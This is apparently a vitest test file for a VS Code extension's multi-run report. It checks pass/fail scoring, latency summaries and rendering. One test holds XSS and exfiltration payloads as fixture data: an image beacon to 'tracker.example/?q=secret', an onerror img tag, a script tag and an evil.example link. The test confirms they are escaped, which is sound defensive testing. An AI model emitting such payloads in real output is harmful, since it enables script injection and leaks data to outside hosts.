/**
 * The ▶ Run ×10 document as the editor shows it, from real runs: the homes prompt run 10 times on
 * the bundled simulator with the homes scenario, each answer checked against the homes tests file.
 * Every answer is in the document with its pass/fail and the reason of each failed assertion; a
 * failed request is unscored, never a fail; the toast agrees with the CodeLens.
 */
import { readFileSync } from 'node:fs';
import { resolve } from 'node:path';
import MarkdownIt from 'markdown-it';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { checkRun, runCheckPlan } from '../../../src/core/adherence/runChecks';
import { loadTestSuite } from '../../../src/core/adherence/testCases';
import { httpTransport } from '../../../src/core/endpoint/transport';
import { parsePromptFile } from '../../../src/core/formats/detect';
import { fitLatency } from '../../../src/core/metrics/latencyModel';
import { runReportMarkdown } from '../../../src/core/metrics/runReport';
import { summarizeRuns } from '../../../src/core/metrics/summary';
import { executePromptRuns, planPromptRun } from '../../../src/core/run/promptRun';
import { parseScenario } from '../../../src/core/sim/scenario';
import { startSim, type RunningSim } from '../../../src/core/sim/simServer';
import { runDocumentMarkdown, runDocumentTitle, runToastLine, tablesAsText, type RunDocumentState, type RunEntry } from '../../../src/extension/runs/runDocument';

const file = resolve('examples/homes/homes.prompty');
const text = readFileSync(file, 'utf8');
const withoutRule = text.replace(/\n- When the user says "homes"[^\n]*\n[^\n]*\n/, '\n');
let sim: RunningSim;

beforeAll(async () => {
  sim = await startSim({ ttftBaseMs: 20, decodeMsPerToken: 0.2, jitterMs: 2, seed: 11, scenario: parseScenario(readFileSync('examples/homes/homes.sim.yaml', 'utf8')) } as Parameters<typeof startSim>[0]);
});
afterAll(async () => sim.close());

async function runTen(source = text): Promise<{ state: RunDocumentState; summary: ReturnType<typeof summarizeRuns> }> {
  // The document as the editor builds it, figures included (runController.ts).
  const plan = await planPromptRun('homes.prompty', source, { endpointModel: 'gpt-4o-mini' });
  const suite = loadTestSuite(file, source, 'prompty', plan.prompt);
  const checkPlan = runCheckPlan(suite, plan.prompt.inputs);
  expect(checkPlan.cases.map((c) => c.description)).toHaveLength(1);
  const state: RunDocumentState = {
    promptName: plan.prompt.name, endpointLabel: 'sim', model: plan.request.model, inputTokensEstimate: plan.inputTokensEstimate, unresolved: plan.unresolved, runs: 10,
    checks: { against: `the test case “${checkPlan.cases[0]!.description}”` }, entries: [],
  };
  const transport = httpTransport({ name: 'sim', provider: 'openai', baseUrl: sim.url, simulated: true }, undefined);
  const checks: Promise<void>[] = [];
  const result = await executePromptRuns(transport, plan, {
    runs: 10, concurrency: 1, warmup: 0, timeoutMs: 10_000,
    onRun: (outcome, _finished, index) => {
      const entry: RunEntry = { answer: outcome.text.answer, reasoning: outcome.text.reasoning, record: outcome.record };
      state.entries[index] = entry;
      checks.push(checkRun(checkPlan, { answer: outcome.text.answer, ok: outcome.record.ok, ttftMs: outcome.record.ttftMs, e2eMs: outcome.record.e2eMs }).then((c) => void (entry.check = c)));
    },
  });
  await Promise.all(checks);
  const records = result.outcomes.map((o) => o.record);
  state.summary = result.summary;
  state.report = runReportMarkdown({ records, summary: result.summary, summaryWarm: result.summaryWarm, serverKind: result.serverKind, serverMetrics: result.serverMetrics, startedAt: result.startedAt, fit: fitLatency(records), concurrency: 1, simulated: true });
  return { state, summary: result.summary };
}

describe('the run document of Run ×10', () => {
  it('shows all 10 answers, each with its pass/fail, and the failed assertion and its reason', async () => {
    // Without the rule that defines "homes", the scenario answers with a mix of property types: some answers fail.
    const { state } = await runTen(withoutRule);
    const markdown = runDocumentMarkdown(state);
    for (let i = 1; i <= 10; i++) expect(markdown).toMatch(new RegExp(`^## Run ${i} of 10 · (✓ pass|✗ fail)$`, 'm'));
    for (const entry of state.entries) expect(markdown).toContain(entry!.answer.trim());
    // The homes prompt has its rule: mostly detached houses; an answer with a townhouse fails the negated assertion.
    const failed = state.entries.filter((e) => e!.check!.status === 'fail');
    const passed = state.entries.filter((e) => e!.check!.status === 'pass');
    expect(failed.length).toBeGreaterThan(0);
    expect(passed.length + failed.length).toBe(10);
    expect(markdown).toContain(`**${passed.length} of 10 scored answers pass**`);
    for (const entry of failed) {
      expect(entry!.answer.toLowerCase()).toMatch(/apartment|condo|townhouse/);
      expect(entry!.check!.failed.map((f) => f.label)).toEqual(['not-icontains-any ["apartment","condo","townhouse"]']);
    }
    for (const entry of failed) {
      const reason = entry!.check!.failed[0]!.reason;
      expect(reason).toMatch(/apartment|condo|townhouse/i);
      expect(markdown).toContain(`- ✗ not-icontains-any ["apartment","condo","townhouse"]: ${reason}`);
    }
    // No Markdown table rows (they wrapped into noise in a split editor), the figures included.
    expect(markdown.split('\n').filter((l) => l.startsWith('|'))).toEqual([]);
    expect(markdown).toMatch(/^metric +n +p50 +p90 +p99 +min +max$/m);
    expect(markdown).toMatch(/^TTFT +10 +\d+ ms +\d+ ms +n\/a +\d+ ms +\d+ ms$/m);
    expect(Math.max(...markdown.split('\n').filter((l) => !/^\d\. /.test(l)).map((l) => l.length))).toBeLessThan(120);
  });

  it('sums the figures up in words first, each with what it means and its unit, before the ten answers', async () => {
    const { state } = await runTen(withoutRule);
    const markdown = runDocumentMarkdown(state);
    const summaryAt = markdown.indexOf('## Summary');
    expect(summaryAt).toBeGreaterThan(0);
    expect(summaryAt).toBeLessThan(markdown.indexOf('## Run 1 of 10'));
    const summary = markdown.slice(summaryAt, markdown.indexOf('## Run 1 of 10'));
    expect(summary).toMatch(/^- Time to first token \(TTFT\) — how long until the answer starts: p50 \d+ ms · p90 \d+ ms$/m);
    expect(summary).toMatch(/^- End-to-end latency \(E2E\) — how long until the whole answer is in: p50 [\d.]+ m?s · p90 [\d.]+ m?s$/m);
    expect(summary).toMatch(/^- Time per output token \(TPOT\) — how fast the answer streams: p50 [\d.]+ ms\/token/m);
    expect(summary).toMatch(/^- Throughput — output tokens per second over the whole request: p50 [\d.]+ tokens\/s/m);
    expect(summary).not.toMatch(/ttftMs|e2eMs|tpotMs/);
  });

  it('rendered (the default view): the summary first, each answer folded under one line that says how it went, the figures as real tables (issue 39)', async () => {
    const { state } = await runTen(withoutRule);
    const markdown = runDocumentMarkdown(state, 'rendered');
    // Rendered as VS Code's Markdown preview renders it (markdown-it, HTML and linkify on).
    const html = new MarkdownIt({ html: true, linkify: true }).render(markdown);
    const summaries = [...html.matchAll(/<details>\n<summary>(.*?)<\/summary>/g)].map((m) => m[1]!);
    expect(summaries).toHaveLength(10);
    summaries.forEach((line, i) => expect(line).toMatch(new RegExp(`^Run ${i + 1} of 10 · (✓ pass|✗ fail) · TTFT [\\d.]+ m?s · E2E [\\d.]+ m?s · \\d+ output tokens`)));
    expect(html.indexOf('<h2>Summary</h2>')).toBeLessThan(html.indexOf('<details>'));
    // Inside each fold, the answer is still Markdown: a code block, and the failed assertion a list item.
    for (const entry of state.entries) expect(html).toContain(`<pre><code class="language-text">${new MarkdownIt().utils.escapeHtml(entry!.answer.trim())}`);
    const failed = state.entries.filter((e) => e!.check!.status === 'fail');
    expect((html.match(/<li>✗ not-icontains-any/g) ?? []).length).toBe(failed.length);
    // The figures as tables, which the preview lays out (as text they were aligned columns).
    expect(html).toMatch(/<th>metric<\/th>/);
    expect(html).toMatch(/<td>TTFT<\/td>/);
  });

  it('rendered: what the server or the model wrote is shown as text, never as an image, link or tag', () => {
    const record = { ok: false, ttftMs: null, e2eMs: null, outputTokens: null, error: { kind: 'http', message: 'HTTP 500 ![x](https://tracker.example/p.png) <img src=x onerror=alert(1)> [click](https://evil.example)' } };
    const hostile = '![leak](https://tracker.example/?q=secret)\n<script>alert(1)</script>';
    const state: RunDocumentState = {
      promptName: 'p', endpointLabel: 'sim', model: 'm', inputTokensEstimate: 1, unresolved: [], runs: 2, checks: { against: 'the test case' },
      entries: [
        { answer: '', reasoning: '', record: record as unknown as RunEntry['record'] },
        { answer: hostile, reasoning: hostile, record: { ...record, ok: true, error: undefined } as unknown as RunEntry['record'], check: { status: 'fail', failed: [{ label: 'contains <b>', outcome: 'fail', reason: `answer was ${hostile}` }] } as unknown as RunEntry['check'] },
      ],
    };
    const html = new MarkdownIt({ html: true, linkify: true }).render(runDocumentMarkdown(state, 'rendered'));
    expect(html).not.toMatch(/<img|<a |<script|<b>/);
    // A single run is not folded, and is shown as text all the same.
    const single = new MarkdownIt({ html: true, linkify: true }).render(runDocumentMarkdown({ ...state, runs: 1, entries: [state.entries[1]] }, 'rendered'));
    expect(single).not.toMatch(/<img|<a |<script|<b>|<details>/);
    expect(single).toContain('<h2>Run 1 of 1 · ✗ fail</h2>');
    expect(html).toContain('HTTP 500 ![x](https://tracker.example/p.png) &lt;img src=x onerror=alert(1)&gt;');
    expect(html).toContain('contains &lt;b&gt;: answer was ![leak](https://tracker.example/?q=secret)');
  });

  it('a failed request is unscored with its reason, not a failing answer', async () => {
    const plan = await planPromptRun('homes.prompty', text, { endpointModel: 'gpt-4o-mini' });
    const checkPlan = runCheckPlan(loadTestSuite(file, text, 'prompty', plan.prompt), plan.prompt.inputs);
    const check = await checkRun(checkPlan, { answer: '', ok: false, ttftMs: null, e2eMs: null, errorMessage: 'connect ECONNREFUSED 127.0.0.1:9' });
    expect(check).toMatchObject({ status: 'unscored', reason: 'the request failed: connect ECONNREFUSED 127.0.0.1:9' });
  });

  it('inputs no test case was written for: not checked, and the document says why', () => {
    const doc = parsePromptFile('homes.prompty', text);
    const suite = loadTestSuite(file, text, 'prompty', doc.prompts[0]!);
    const plan = runCheckPlan(suite, { city: 'Paris', request: 'Find homes' });
    expect(plan.cases).toEqual([]);
    const state: RunDocumentState = { promptName: 'homes-assistant', endpointLabel: 'sim', model: 'gpt-4o-mini', inputTokensEstimate: 103, unresolved: [], runs: 1, checks: { notChecked: 'why' in plan ? plan.why : '' }, entries: [] };
    expect(runDocumentMarkdown(state)).toContain('Pass/fail: not checked — none of the 1 test case in homes.tests.yaml uses the sample values this run sends');
  });

  it('a malformed assertion in the tests file is said under the pass/fail line, never skipped silently (issue 39)', () => {
    const withoutList = readFileSync('examples/homes/homes.tests.yaml', 'utf8').replace('      value: [apartment, condo, townhouse]\n', '');
    const suite = loadTestSuite(file, text, 'prompty', parsePromptFile('homes.prompty', text).prompts[0]!, () => withoutList);
    const plan = runCheckPlan(suite, { city: 'Bellevue, WA', request: 'Find homes nearby with at least three bedrooms.' });
    const state: RunDocumentState = { promptName: 'homes-assistant', endpointLabel: 'sim', model: 'm', inputTokensEstimate: 1, unresolved: [], runs: 1, checks: { against: 'the test case' }, testProblems: suite.problems, entries: [] };
    expect(plan.cases[0]!.assertions).toHaveLength(1);
    expect(runDocumentMarkdown(state)).toContain("Pass/fail: each answer against the test case.\n\n⚠ The test cases have a problem (an assertion with one is not checked):\n\n- homes.tests.yaml:10: defaultTest.assert[0]: 'not-icontains-any' needs a `value`: the texts to look for, as a list, e.g. value: [apartment, condo].\n");
  });

  it('the tab title and the heading say the same number of runs (was: tab "(run 2)", heading "run 1 of 10")', () => {
    const at = new Date(2026, 11, 4, 16, 5, 9);
    expect(runDocumentTitle('homes-assistant', 10, at)).toBe('homes-assistant — 10 runs at 16:05:09');
    expect(runDocumentTitle('homes-assistant', 1, at)).toBe('homes-assistant — 1 run at 16:05:09');
    const state: RunDocumentState = { promptName: 'homes-assistant', endpointLabel: 'sim', model: 'm', inputTokensEstimate: 1, unresolved: [], runs: 10, checks: { notChecked: 'x' }, entries: [] };
    expect(runDocumentMarkdown(state)).toMatch(/^10 runs · model m/m);
  });

  it('the toast gives the CodeLens\'s figures when the store holds more runs of this text than the batch (was: toast p50 of 10, lens p50 of 11)', async () => {
    const { state, summary } = await runTen();
    const earlier = state.entries[0]!.record!;
    const lens = summarizeRuns([earlier, ...state.entries.map((e) => e!.record!)]);
    const line = runToastLine(summary, lens, state.entries);
    expect(line).toMatch(/ · p50 of 11( \(p99 n\/a\))? · 10 of the 11 from this batch, as the CodeLens counts$/);
    expect(line).toMatch(/^\d+ of 10 answers pass · TTFT/);
    expect(runToastLine(summary, summary, state.entries)).toContain('p50 of 10');
  });
  it('a server-metrics table becomes aligned columns, numbers right-aligned', () => {
    const text = tablesAsText('before\n\n| t | running | first tokens |\n|---:|---:|---|\n| 0.5 s | 1 | 1: 312 ms |\n| 12.0 s | 10 |  |\n\nafter');
    expect(text).toBe('before\n\n```text\n     t  running  first tokens\n 0.5 s        1  1: 312 ms\n12.0 s       10\n```\n\nafter');
  });
});
